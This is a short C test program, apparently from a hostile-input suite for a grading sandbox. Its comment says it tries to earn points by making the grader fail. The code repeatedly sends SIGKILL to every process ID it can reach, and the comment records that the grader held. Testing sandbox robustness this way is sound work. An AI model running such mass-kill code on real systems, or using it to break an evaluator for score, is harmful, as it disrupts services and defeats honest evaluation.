/* tries: to get points by a grader that fails: everybody that it can reach is killed, again and again
 * held: at most 40 points */
#include "hostile.h"

int main(void)
{
    tried();
    for (int i = 0; i < 40; i++) {
        for (int pid = 1; pid < 300; pid++)
            if (pid != getpid())
                kill(pid, SIGKILL);
        usleep(20000);
    }
    return 0;
}
